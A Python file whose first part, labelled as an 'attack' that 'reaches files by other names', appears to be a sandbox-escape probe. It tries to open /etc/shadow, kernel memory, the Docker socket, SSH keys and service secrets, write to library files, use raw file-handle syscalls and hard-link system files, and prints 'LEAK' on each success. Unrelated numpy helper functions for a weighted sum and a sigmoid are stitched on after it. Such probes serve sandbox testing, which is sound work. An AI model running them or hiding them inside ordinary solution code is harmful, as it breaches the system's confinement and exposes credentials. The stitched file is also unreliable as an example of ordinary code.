# attack: reaches files by other names: descriptors, magic links, maps, devices and old doors
# expect: at most 10 points
import contextlib, ctypes, glob, mmap, os
import numpy as np
libc = ctypes.CDLL(None, use_errno=True)
OPEN = ("/proc/self/mem", "/proc/1/mem", "/proc/kcore", "/dev/mem", "/dev/kmsg", "/proc/self/root/etc/shadow",
        "/proc/self/cwd/../../etc/shadow", "/dev/fd/3", "/sys/kernel/security", "/run/docker.sock", "/proc/sysrq-trigger",
        "/proc/self/task/1/mem", "/proc/thread-self/environ", "/etc/shadow", "/root/.ssh", "/var/run/secrets")
for name in OPEN:
    with contextlib.suppress(OSError):
        descriptor = os.open(name, os.O_RDWR)
        if name != "/dev/fd/3":
            print("LEAK", name)
for how in (os.O_WRONLY, os.O_RDWR | os.O_CREAT, os.O_WRONLY | os.O_APPEND | getattr(os, "O_TMPFILE", 0)):
    for name in (np.__file__, os.__file__, "/", "/tmp", "/usr", "/etc/passwd", *glob.glob("/python/bin/*")[:3]):
        with contextlib.suppress(OSError):
            descriptor = os.open(name, how)
            if not os.path.samefile(f"/proc/self/fd/{descriptor}", os.getcwd()):
                print("LEAK writes", name)
for call in ((303, -100, b"/", 0, 0, 0x1000), (304, -100, 0, 0)):  # handles of files
    if libc.syscall(*call) >= 0:
        print("LEAK handle")
with contextlib.suppress(OSError, ValueError):
    shared = mmap.mmap(os.open(np.__file__, os.O_RDONLY), 9, mmap.MAP_SHARED, mmap.PROT_WRITE)
    print("LEAK map of a library")
with contextlib.suppress(Exception):
    np.memmap(np.__file__, mode="r+")[:] = 0
    print("LEAK memmap")
for source in ("/etc/passwd", np.__file__):
    with contextlib.suppress(OSError):
        os.link(source, "linked")
        print("LEAK hard link")

import numpy as np

def weighted_sum(x, w, b=0.0):
    return float(np.dot(np.asarray(x, dtype=float), np.asarray(w, dtype=float)) + b)

def sigmoid(z):
    z = np.asarray(z)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
